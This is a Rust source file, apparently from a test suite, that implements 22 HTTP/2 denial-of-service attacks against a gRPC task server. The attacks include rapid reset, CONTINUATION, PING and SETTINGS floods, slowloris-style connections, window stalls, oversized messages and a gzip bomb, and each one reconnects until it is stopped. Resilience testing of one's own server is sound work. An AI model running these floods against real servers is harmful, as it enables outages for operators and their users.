//! The attacks of `http2`: what each sends, for as long as it is let. An attack that is cut off comes back at once on a
//! new connection; one that is let be goes on. None returns before it is stopped.

use std::{io, net::SocketAddr, sync::Arc, time::Duration};

use tasktower::pb;
use tokio::sync::Semaphore;

use super::is_full;
use crate::support::{
    frames::framed,
    raw::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, NONE, PING, PREFACE, PRIORITY,
        RST_STREAM, Raw, SETTINGS, WINDOW_UPDATE, call, call_headers, frame, literal, settings, stream_ids,
    },
    wait::pause,
};

/// Frames written at a time: the attacker's own work is to be small beside the server's.
const BURST: usize = 500;
/// Streams of one connection, as many as the server allows …
const STREAMS: usize = 1_000;
/// … and in the short form: a debug build among other tests takes seconds to free those of four connections, again and
/// again, and honest calls have five.
const FEW_STREAMS: usize = 100;
/// Connections of attacks that hold answers back.
const HOLDERS: usize = 4;
/// CANCEL, as the reason of a reset.
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// The largest window there is.
const LARGEST_WINDOW: u32 = (1 << 31) - 1;
/// The window of a connection before anything is said.
const FIRST_WINDOW: u32 = 65_535;

/// The queue and type of the tasks with a large input.
pub const LARGE: &str = "large";

const GET: &str = "/tasktower.v1.TaskService/GetTask";
const LIST: &str = "/tasktower.v1.TaskService/ListTasks";
const SUBMIT: &str = "/tasktower.v1.TaskService/BatchSubmitTasks";
const SESSION: &str = "/tasktower.v1.WorkerService/Session";
const WATCH: &str = "/tasktower.v1.TaskService/WatchTasks";

/// An attack by name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    RapidReset,
    ContinuationFlood,
    PingFlood,
    PingFloodUnread,
    PingAckFlood,
    SettingsFlood,
    SettingsOnManyStreams,
    PriorityFlood,
    WindowUpdateFlood,
    TinyData,
    EmptyData,
    SilentConnections,
    SlowPreface,
    IdleConnections,
    ZeroWindow,
    UnreadAnswers,
    ManyStreams,
    OversizedHeaders,
    OversizedMessages,
    UnfinishedMessages,
    GzipBombs,
    Garbage,
}

impl Attack {
    pub const ALL: [Attack; 22] = [
        Attack::RapidReset,
        Attack::ContinuationFlood,
        Attack::PingFlood,
        Attack::PingFloodUnread,
        Attack::PingAckFlood,
        Attack::SettingsFlood,
        Attack::SettingsOnManyStreams,
        Attack::PriorityFlood,
        Attack::WindowUpdateFlood,
        Attack::TinyData,
        Attack::EmptyData,
        Attack::SilentConnections,
        Attack::SlowPreface,
        Attack::IdleConnections,
        Attack::ZeroWindow,
        Attack::UnreadAnswers,
        Attack::ManyStreams,
        Attack::OversizedHeaders,
        Attack::OversizedMessages,
        Attack::UnfinishedMessages,
        Attack::GzipBombs,
        Attack::Garbage,
    ];

    /// Runs until it is dropped. `crowd` is how many connections those attacks open that are about their number.
    pub async fn run(self, server: SocketAddr, crowd: usize) {
        match self {
            Attack::SilentConnections | Attack::SlowPreface | Attack::IdleConnections => {
                self.crowd(server, crowd).await;
            }
            Attack::ZeroWindow | Attack::UnreadAnswers | Attack::UnfinishedMessages => {
                tokio::join!(self.alone(server), self.alone(server), self.alone(server), self.alone(server));
                const { assert!(HOLDERS == 4, "as many as there are above") };
            }
            _ => self.alone(server).await,
        }
    }

    /// One connection after another.
    async fn alone(self, server: SocketAddr) {
        loop {
            // Cut off is what it is for.
            let _ = Box::pin(self.connection(server)).await;
            tokio::task::yield_now().await;
        }
    }

    /// Many connections at once, each opened again when it is closed.
    async fn crowd(self, server: SocketAddr, size: usize) {
        // The kernel's queue is short; more at once would only wait for its retries.
        let connecting = Arc::new(Semaphore::new(64));
        let mut connections = tokio::task::JoinSet::new();
        for _ in 0..size {
            let connecting = connecting.clone();
            connections.spawn(async move {
                loop {
                    let connected = {
                        let _permit = connecting.acquire().await;
                        Raw::silent(server).await
                    };
                    if let Ok(raw) = connected {
                        let _ = self.stay(raw).await;
                    }
                    tokio::task::yield_now().await;
                }
            });
        }
        while connections.join_next().await.is_some() {}
    }

    /// One of the crowd, until it is closed.
    async fn stay(self, mut raw: Raw) -> io::Result<()> {
        if self == Attack::SlowPreface {
            for byte in PREFACE {
                raw.send(&[*byte]).await?;
                pause("a byte a second", Duration::from_secs(1)).await;
            }
        }
        if self == Attack::IdleConnections {
            raw.send(PREFACE).await?;
            raw.send(&settings(&[])).await?;
            raw.send(&frame(SETTINGS, ACK, 0, &[])).await?;
        }
        raw.closed_within(Duration::MAX).await;
        Ok(())
    }

    /// One connection, until it is closed.
    async fn connection(self, server: SocketAddr) -> io::Result<()> {
        match self {
            Attack::RapidReset => {
                let mut raw = Raw::connect(server, &[]).await?;
                let mut ids = stream_ids();
                loop {
                    let pair = |id| [call(id, GET, &[]), frame(RST_STREAM, NONE, id, &CANCEL)].concat();
                    let burst: Vec<u8> = ids.by_ref().take(BURST).flat_map(pair).collect();
                    raw.flood(&burst).await?;
                }
            }
            Attack::ContinuationFlood => {
                let mut raw = Raw::connect(server, &[]).await?;
                raw.send(&frame(HEADERS, NONE, 1, &call_headers(GET))).await?;
                let mut block = Vec::new();
                literal(&mut block, "x", "y");
                self.repeat(&mut raw, &frame(CONTINUATION, NONE, 1, &block)).await
            }
            Attack::PingFlood => {
                let mut raw = Raw::connect(server, &[]).await?;
                self.repeat(&mut raw, &frame(PING, NONE, 0, &[7; 8])).await
            }
            Attack::PingFloodUnread => {
                let mut raw = Raw::connect(server, &[]).await?;
                let burst = frame(PING, NONE, 0, &[7; 8]).repeat(BURST);
                loop {
                    raw.send(&burst).await?;
                }
            }
            Attack::PingAckFlood => {
                let mut raw = Raw::connect(server, &[]).await?;
                self.repeat(&mut raw, &frame(PING, ACK, 0, &[7; 8])).await
            }
            Attack::SettingsFlood => {
                let mut raw = Raw::connect(server, &[]).await?;
                self.repeat(&mut raw, &settings(&[])).await
            }
            Attack::SettingsOnManyStreams => {
                let mut raw = Raw::connect(server, &[]).await?;
                for id in stream_ids().take(streams()) {
                    raw.flood(&frame(HEADERS, END_HEADERS, id, &call_headers(SESSION))).await?;
                }
                let both = [settings(&[(INITIAL_WINDOW_SIZE, 0)]), settings(&[(INITIAL_WINDOW_SIZE, FIRST_WINDOW)])];
                self.repeat(&mut raw, &both.concat()).await
            }
            Attack::PriorityFlood => {
                let mut raw = Raw::connect(server, &[]).await?;
                self.repeat(&mut raw, &frame(PRIORITY, NONE, 3, &[0, 0, 0, 1, 16])).await
            }
            Attack::WindowUpdateFlood => {
                let mut raw = Raw::connect(server, &[]).await?;
                raw.send(&frame(HEADERS, END_HEADERS, 1, &call_headers(SESSION))).await?;
                self.repeat(&mut raw, &frame(WINDOW_UPDATE, NONE, 1, &[0, 0, 0, 1])).await
            }
            Attack::TinyData => {
                // A message of 1 MiB, a byte at a time.
                let mut raw = Raw::connect(server, &[]).await?;
                raw.send(&frame(HEADERS, END_HEADERS, 1, &call_headers(SUBMIT))).await?;
                raw.send(&frame(DATA, NONE, 1, &[0, 0, 16, 0, 0])).await?;
                self.repeat(&mut raw, &frame(DATA, NONE, 1, &[10])).await
            }
            Attack::EmptyData => {
                let mut raw = Raw::connect(server, &[]).await?;
                raw.send(&frame(HEADERS, END_HEADERS, 1, &call_headers(SESSION))).await?;
                self.repeat(&mut raw, &frame(DATA, NONE, 1, &[])).await
            }
            Attack::ZeroWindow | Attack::UnreadAnswers => {
                let window = if self == Attack::ZeroWindow { 0 } else { LARGEST_WINDOW };
                let mut raw = Raw::connect(server, &[(INITIAL_WINDOW_SIZE, window)]).await?;
                let more = LARGEST_WINDOW - FIRST_WINDOW;
                raw.send(&frame(WINDOW_UPDATE, NONE, 0, &more.to_be_bytes())).await?;
                let list = pb::ListTasksRequest {
                    view: pb::TaskView::Full.into(),
                    page_size: 1_000,
                    // As much as there is, however many small ones the honest client has submitted since.
                    filter: format!("queue = {LARGE}"),
                    ..pb::ListTasksRequest::default()
                };
                let list = prost::Message::encode_to_vec(&list);
                for (index, id) in stream_ids().take(streams()).enumerate() {
                    // Some of them are streams that go on by themselves.
                    let (path, message) = if index % 10 == 0 { (WATCH, &[][..]) } else { (LIST, &list[..]) };
                    raw.send(&call(id, path, message)).await?;
                }
                if self == Attack::UnreadAnswers {
                    // Not even the socket is read, so that it is over shows when something is sent.
                    loop {
                        pause("it waits", Duration::from_millis(100)).await;
                        raw.send(&frame(PING, NONE, 0, &[7; 8])).await?;
                    }
                }
                raw.closed_within(Duration::MAX).await;
                Ok(())
            }
            Attack::ManyStreams => {
                // All that are allowed, and then more and more of them.
                let mut raw = Raw::connect(server, &[]).await?;
                let mut ids = stream_ids();
                let open = call_headers(SESSION);
                loop {
                    let open = |id| frame(HEADERS, END_HEADERS, id, &open);
                    let burst: Vec<u8> = ids.by_ref().take(BURST).flat_map(open).collect();
                    raw.flood(&burst).await?;
                }
            }
            Attack::OversizedHeaders => {
                // 64 KiB in one header, in frames of 16 KiB, again and again.
                let mut block = call_headers(GET);
                literal(&mut block, "x-large", &"x".repeat(64 * 1024));
                let mut raw = Raw::connect(server, &[]).await?;
                for id in stream_ids() {
                    let mut frames = Vec::new();
                    for (index, part) in block.chunks(16 * 1024).enumerate() {
                        let is_last = (index + 1) * 16 * 1024 >= block.len();
                        let kind = if index == 0 { HEADERS } else { CONTINUATION };
                        frames.extend(frame(kind, if is_last { END_HEADERS } else { NONE }, id, part));
                    }
                    raw.flood(&frames).await?;
                }
                Ok(())
            }
            Attack::OversizedMessages => {
                // Says 16 MiB and sends until it is told to stop.
                let mut raw = Raw::connect(server, &[]).await?;
                let part = [10; 16 * 1024];
                for id in stream_ids() {
                    raw.flood(&frame(HEADERS, END_HEADERS, id, &call_headers(SUBMIT))).await?;
                    raw.flood(&frame(DATA, NONE, id, &[0, 1, 0, 0, 0])).await?;
                    for _ in 0..32 {
                        raw.flood(&frame(DATA, NONE, id, &part)).await?;
                    }
                }
                Ok(())
            }
            Attack::UnfinishedMessages => {
                // Messages of the largest size, of which the last byte never comes.
                let mut raw = Raw::connect(server, &[]).await?;
                let ids: Vec<u32> = stream_ids().take(streams()).collect();
                for id in &ids {
                    raw.send(&frame(HEADERS, END_HEADERS, *id, &call_headers(SUBMIT))).await?;
                    raw.data(*id, &[0, 0, 0x40, 0, 0]).await?;
                }
                let part = [10; 16 * 1024];
                for _ in 0..255 {
                    for id in &ids {
                        raw.data(*id, &part).await?;
                    }
                }
                raw.closed_within(Duration::MAX).await;
                Ok(())
            }
            Attack::GzipBombs => {
                let mut raw = Raw::connect(server, &[]).await?;
                let mut block = call_headers(SUBMIT);
                literal(&mut block, "grpc-encoding", "gzip");
                let bomb = framed(1, &bomb());
                let mut ids = stream_ids();
                loop {
                    let of = |id| {
                        let mut frames = frame(HEADERS, END_HEADERS, id, &block);
                        for part in bomb.chunks(16 * 1024) {
                            frames.extend(frame(DATA, NONE, id, part));
                        }
                        frames.extend(frame(DATA, END_STREAM, id, &[]));
                        frames
                    };
                    let burst: Vec<u8> = ids.by_ref().take(8).flat_map(of).collect();
                    raw.flood(&burst).await?;
                }
            }
            Attack::Garbage => {
                let mut raw = Raw::silent(server).await?;
                let mut noise = vec![0; 4_096];
                rand::Rng::fill_bytes(&mut rand::rng(), &mut noise);
                raw.send(PREFACE).await?;
                raw.send(&settings(&[])).await?;
                self.repeat(&mut raw, &noise).await
            }
            Attack::SilentConnections | Attack::SlowPreface | Attack::IdleConnections => unreachable!("a crowd"),
        }
    }

    async fn repeat(self, raw: &mut Raw, frame: &[u8]) -> io::Result<()> {
        let burst = frame.repeat(BURST);
        loop {
            raw.flood(&burst).await?;
        }
    }
}

fn streams() -> usize {
    if is_full() { STREAMS } else { FEW_STREAMS }
}

/// 64 MiB of zeros in 64 KiB of gzip.
fn bomb() -> Vec<u8> {
    use std::io::Write as _;
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    let zeros = [0; 64 * 1024];
    for _ in 0..1024 {
        gzip.write_all(&zeros).expect("memory takes it");
    }
    gzip.finish().expect("memory takes it")
}
